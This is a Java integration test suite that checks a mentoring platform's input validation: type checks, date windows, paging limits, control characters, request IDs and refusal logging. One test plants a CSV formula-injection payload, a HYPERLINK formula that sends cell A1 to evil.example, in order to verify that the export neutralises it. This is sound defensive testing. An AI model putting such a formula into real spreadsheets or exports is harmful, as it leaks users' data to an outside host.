package org.mentorlink.it.hardening;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.extension.ExtendWith;
import org.mentorlink.it.fuzz.Checks;
import org.mentorlink.it.lti.LtiFixture;
import org.mentorlink.it.lti.sim.ToolBrowser.Step;
import org.mentorlink.it.mentoring.Participant;
import org.mentorlink.it.mentoring.Scenarios;
import org.mentorlink.it.support.DatabasePass;
import org.mentorlink.it.support.Server;

/**
 * The outside fuzzer's findings, one by one: bad input is a 4xx problem with a stable code that
 * names the field and stores nothing; paging is bounded; control characters and implausible dates
 * are refused; CSV cells cannot become formulas; every answer carries a request id that the log
 * line of a refusal repeats; and no refusal leaves a failure report (FFDC) behind.
 */
@ExtendWith(DatabasePass.class)
class InputHardeningIT {
  private LtiFixture lti;
  private Scenarios.Relationship r;

  @BeforeEach
  void start(TestInfo test) {
    lti = LtiFixture.start(test);
    r = Scenarios.relationship(lti, "Hardening scheme");
  }

  @AfterEach
  void stop() {
    lti.close();
  }

  private static Step send(Participant p, String method, String path, String body) {
    return p.browser.raw(
        method,
        path,
        body == null ? null : body.getBytes(StandardCharsets.UTF_8),
        Map.of(
            "Accept", "application/json",
            "Content-Type", "application/json",
            "X-CSRF-Token", p.csrf));
  }

  private static JsonObject problem(Step s, int status, String code) {
    assertEquals(status, s.status(), s.describe());
    assertTrue(
        s.header("Content-Type").orElse("").startsWith("application/problem+json"), s.describe());
    JsonObject p = Json.createReader(new StringReader(s.body())).readObject();
    assertEquals(code, p.getString("code"), s.describe());
    assertEquals(status, p.getInt("status"), s.describe());
    assertEquals(s.header("X-Request-Id").orElse("none"), p.getString("requestId"), s.describe());
    assertFalse(Checks.LEAK.matcher(s.body()).find(), s.describe());
    return p;
  }

  /** A 400 naming {@code field} with {@code fieldCode}, under the top-level {@code code}. */
  private static void refused(Step s, String code, String field, String fieldCode) {
    JsonObject p = problem(s, 400, code);
    assertEquals(field, p.getString("field"), s.describe());
    assertTrue(
        p.getJsonArray("errors").stream()
            .map(JsonValue::asJsonObject)
            .anyMatch(
                e -> e.getString("field").equals(field) && e.getString("code").equals(fieldCode)),
        s.describe());
  }

  private String session() {
    JsonObject scheduled =
        r.mentor()
            .created(
                "POST",
                r.path() + "/sessions",
                Json.createObjectBuilder()
                    .add(
                        "scheduledAt",
                        Instant.now()
                            .plus(2, ChronoUnit.DAYS)
                            .truncatedTo(ChronoUnit.SECONDS)
                            .toString())
                    .add("durationHours", "1")
                    .add("mode", "PHONE")
                    .build());
    return scheduled.getJsonArray("sessions").getJsonObject(0).getString("id");
  }

  private String agenda(String sessionId) {
    JsonObject rel = r.mentee().ok("GET", r.path(), null);
    return rel.getJsonArray("sessions").stream()
        .map(JsonValue::asJsonObject)
        .filter(s -> s.getString("id").equals(sessionId))
        .findFirst()
        .map(s -> s.isNull("agenda") ? null : s.getString("agenda"))
        .orElseThrow();
  }

  @Test
  void lenientTypesAreRefusedNamingTheField() {
    refused(
        send(r.lead(), "PUT", "/api/cpd/settings", "{\"gradebookPassback\":\"yes\"}"),
        "VALIDATION_FAILED",
        "gradebookPassback",
        "WRONG_TYPE");
    refused(
        send(r.lead(), "PUT", "/api/cpd/settings", "{\"yearlyTarget\":50.5}"),
        "VALIDATION_FAILED",
        "yearlyTarget",
        "WRONG_TYPE");
    Participant learner = Participant.launch(lti, lti.learner(), "Dr Typed");
    String typed = "{\"helpWith\":[\"CAREER_DECISION\"],\"otherDetails\":12}";
    refused(
        send(learner, "POST", "/api/requests", typed),
        "VALIDATION_FAILED",
        "otherDetails",
        "WRONG_TYPE");
    refused(
        send(learner, "POST", "/api/requests", "{\"helpWith\":\"CAREER_DECISION\"}"),
        "VALIDATION_FAILED",
        "helpWith",
        "WRONG_TYPE");
    refused(
        send(learner, "POST", "/api/requests", "{\"helpWith\":[\"CAREER\"]}"),
        "VALIDATION_FAILED",
        "helpWith[0]",
        "UNKNOWN_VALUE");
    refused(
        send(learner, "POST", "/api/requests", "{\"helpWith\":[null]}"),
        "VALIDATION_FAILED",
        "helpWith[0]",
        "NULL_ITEM");
    refused(
        send(learner, "POST", "/api/requests", "{}"), "VALIDATION_FAILED", "helpWith", "REQUIRED");
    refused(
        send(
            learner,
            "POST",
            "/api/requests",
            "{\"helpWith\":[\"CAREER_DECISION\"],\"state\":\"MATCHED\"}"),
        "VALIDATION_FAILED",
        "state",
        "UNKNOWN_FIELD");
    problem(send(learner, "POST", "/api/requests", "{\"helpWith\":"), 400, "JSON_MALFORMED");
    problem(send(learner, "POST", "/api/requests", ""), 400, "VALIDATION_FAILED");
    // None of it was stored.
    assertEquals(0, learner.list("/api/requests/mine").size());
  }

  @Test
  void impossibleAndImplausibleDatesAreRefused() {
    String rel = r.path();
    String at = "{\"scheduledAt\":\"%s\",\"durationHours\":\"1\",\"mode\":\"PHONE\"}";
    for (String when :
        List.of(
            "0001-01-01T10:00:00Z",
            "9999-12-31T10:00:00Z",
            Instant.now()
                .minus(6 * 366, ChronoUnit.DAYS)
                .truncatedTo(ChronoUnit.SECONDS)
                .toString())) {
      refused(
          send(r.mentor(), "POST", rel + "/sessions", at.formatted(when)),
          "DATE_OUT_OF_RANGE",
          "scheduledAt",
          "DATE_OUT_OF_RANGE");
    }
    for (String when :
        List.of(
            "+999999999-12-31T10:00:00Z",
            "2025-02-30T10:00:00Z",
            "31/12/2025 10:00",
            "2026-06-01T10:00:00")) {
      refused(
          send(r.mentor(), "POST", rel + "/sessions", at.formatted(when)),
          "VALIDATION_FAILED",
          "scheduledAt",
          "INVALID_DATE");
    }
    String activity =
        "{\"activity\":\"SUPERVISION\",\"description\":\"d\",\"date\":\"%s\",\"hours\":\"1\"}";
    refused(
        send(
            r.mentor(),
            "POST",
            "/api/cpd/activities",
            activity.formatted(LocalDate.now().minusYears(7))),
        "DATE_OUT_OF_RANGE",
        "date",
        "DATE_OUT_OF_RANGE");
    refused(
        send(r.mentor(), "POST", "/api/cpd/activities", activity.formatted("2025-02-30")),
        "VALIDATION_FAILED",
        "date",
        "INVALID_DATE");
    String terms =
        "{\"groundRules\":\"g\",\"confidentiality\":\"c\",\"objectives\":\"o\",\"meetingFrequency\":\"m\","
            + "\"mode\":\"PHONE\",\"startDate\":\"%s\",\"reviewDate\":\"%s\",\"allowance\":\"a\"}";
    refused(
        send(r.mentee(), "POST", rel + "/contract", terms.formatted("0001-01-01", "0001-06-01")),
        "DATE_OUT_OF_RANGE",
        "startDate",
        "DATE_OUT_OF_RANGE");
    JsonObject view = r.mentee().ok("GET", rel, null);
    assertEquals(0, view.getJsonArray("sessions").size(), "no session was stored");
    assertEquals(0, view.getJsonArray("contracts").size(), "no contract was stored");
    // The windows are in the OpenAPI document.
    String doc = Server.current().get("/openapi?format=JSON").body();
    assertTrue(
        doc.contains("from 5 years ago to 2 years ahead"), "the session window is documented");
    assertTrue(
        doc.contains("within the last 6 years and not after tomorrow"),
        "the CPD window is documented");
  }

  @Test
  void controlCharactersAreRefusedAndLineBreaksKeptAsLineFeeds() {
    String sid = session();
    String agenda = r.path() + "/sessions/" + sid + "/agenda";
    r.mentee().ok("PUT", agenda, Json.createObjectBuilder().add("agenda", "first").build());
    for (String bad : List.of("nul \u0000", "esc \u001b[2J", "bell \u0007", "c1 \u009b")) {
      refused(
          send(
              r.mentee(),
              "PUT",
              agenda,
              Json.createObjectBuilder().add("agenda", bad).build().toString()),
          "TEXT_CONTROL_CHARACTERS",
          "agenda",
          "TEXT_CONTROL_CHARACTERS");
    }
    assertEquals("first", agenda(sid), "a refused text is not stored");
    r.mentee()
        .ok(
            "PUT",
            agenda,
            Json.createObjectBuilder().add("agenda", "one\r\ntwo\rthree\tfour").build());
    assertEquals("one\ntwo\nthree\tfour", agenda(sid));
  }

  @Test
  void pagingIsBoundedAndItsOffsetCannotOverflow() {
    for (String q :
        List.of(
            "page=21474837&size=100",
            "page=-1",
            "size=0",
            "size=101",
            "page=abc",
            "size=1e3",
            "page=99999999999")) {
      for (String path :
          List.of(
              "/api/requests",
              "/api/scheme/roster",
              "/api/scheme/relationships",
              "/api/cpd/approvals",
              "/api/cpd/passback")) {
        problem(r.lead().call("GET", path + "?" + q, null), 400, "PAGING_INVALID");
      }
    }
    JsonObject page = r.lead().ok("GET", "/api/scheme/roster?page=0&size=100", null);
    assertEquals(100, page.getInt("size"));
    assertEquals(
        0,
        r.lead()
            .ok("GET", "/api/requests?page=" + (Integer.MAX_VALUE / 100 - 1) + "&size=100", null)
            .getJsonArray("items")
            .size());
  }

  @Test
  void aCsvCellThatWouldBeAFormulaIsWrittenAsText() throws IOException {
    String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    r.mentor()
        .created(
            "POST",
            "/api/cpd/activities",
            Json.createObjectBuilder()
                .add("activity", "MENTOR_TRAINING")
                .add("description", formula)
                .add("date", LocalDate.now().minusDays(1).toString())
                .add("hours", "2")
                .build());
    Step csv = r.mentor().browser.get("/api/cpd/export.csv", Map.of("Accept", "text/csv"));
    assertEquals(200, csv.status(), csv.describe());
    List<CSVRecord> rows =
        CSVFormat.RFC4180
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(new StringReader(csv.body()))
            .getRecords();
    assertTrue(
        rows.stream().anyMatch(row -> row.get("description").equals("'" + formula)), csv.body());
    assertTrue(rows.stream().noneMatch(row -> row.get("description").startsWith("=")), csv.body());
  }

  @Test
  void everyAnswerCarriesARequestIdAndAProxysIsKept() {
    Step mine = r.mentee().browser.get("/api/me", Map.of("Accept", "application/json"));
    assertTrue(
        Checks.REQUEST_ID.matcher(mine.header("X-Request-Id").orElse("")).matches(),
        mine.describe());
    Step page = r.mentee().browser.get("/app");
    assertTrue(page.header("X-Request-Id").isPresent(), page.describe());
    Step kept =
        r.mentee()
            .browser
            .get(
                "/api/me", Map.of("Accept", "application/json", "X-Request-Id", "proxy-4f3a-2026"));
    assertEquals("proxy-4f3a-2026", kept.header("X-Request-Id").orElse(""));
    Step replaced =
        r.mentee()
            .browser
            .get(
                "/api/me",
                Map.of("Accept", "application/json", "X-Request-Id", "not a <valid> id"));
    assertTrue(
        Checks.REQUEST_ID.matcher(replaced.header("X-Request-Id").orElse("")).matches(),
        replaced.describe());
    Step anonymous =
        lti.browser()
            .get(
                "/api/me",
                Map.of("Accept", "application/json", "X-Request-Id", "proxy-anonymous-1"));
    assertEquals(
        "proxy-anonymous-1", problem(anonymous, 401, "NOT_AUTHENTICATED").getString("requestId"));
  }

  @Test
  void aRefusalIsOneLogLineWithItsCodeAndRequestIdAndNoFailureReport() throws IOException {
    Server server = Server.current();
    int before = ffdcFiles(server);
    String id = "refusal-" + System.nanoTime();
    Participant learner = Participant.launch(lti, lti.learner(), "Dr Refused");
    String sid = session();
    // 403, 404, 409, 400 from services inside transactions, and the CSRF filter's 403.
    List<Step> refusals =
        List.of(
            learner.browser.raw(
                "GET",
                "/api/scheme/roster",
                null,
                Map.of("Accept", "application/json", "X-Request-Id", id)),
            learner.call("GET", r.path(), null),
            r.lead()
                .call(
                    "POST", "/api/scheme", Json.createObjectBuilder().add("name", "Again").build()),
            r.mentor().call("POST", r.path() + "/sessions/" + sid + "/sign-off", null),
            r.mentee()
                .call(
                    "POST",
                    r.path() + "/goals",
                    Json.createObjectBuilder().add("goal", " ").build()),
            r.mentee()
                .browser
                .raw(
                    "POST",
                    r.path() + "/goals",
                    "{\"goal\":\"g\"}".getBytes(StandardCharsets.UTF_8),
                    Map.of("Accept", "application/json", "Content-Type", "application/json")));
    assertEquals(
        List.of(403, 404, 409, 409, 400, 403),
        refusals.stream().map(Step::status).toList(),
        refusals.toString());
    for (int i = 0; i < 20; i++) {
      learner.call("GET", "/api/scheme/roster", null);
      r.mentor().call("POST", r.path() + "/sessions/" + sid + "/sign-off", null);
    }
    Server.sleep(1500);
    assertEquals(
        before,
        ffdcFiles(server),
        "refusals leave no FFDC files in " + server.serverDir().resolve("logs/ffdc"));
    List<String> lines = server.messagesLog().lines().filter(l -> l.contains(id)).toList();
    assertEquals(1, lines.size(), "one log line for the refusal: " + lines);
    assertTrue(
        lines.get(0).contains("Refused 403 FORBIDDEN")
            && lines.get(0).contains("[request " + id + "]"),
        lines.get(0));
    String log = server.messagesLog();
    assertFalse(
        log.contains("org.mentorlink.domain.shared.Forbidden"),
        "no stack or class of a refusal in the log");
  }

  private static int ffdcFiles(Server server) throws IOException {
    Path dir = server.serverDir().resolve("logs/ffdc");
    if (!Files.isDirectory(dir)) {
      return 0;
    }
    try (Stream<Path> files = Files.list(dir)) {
      return (int) files.count();
    }
  }
}
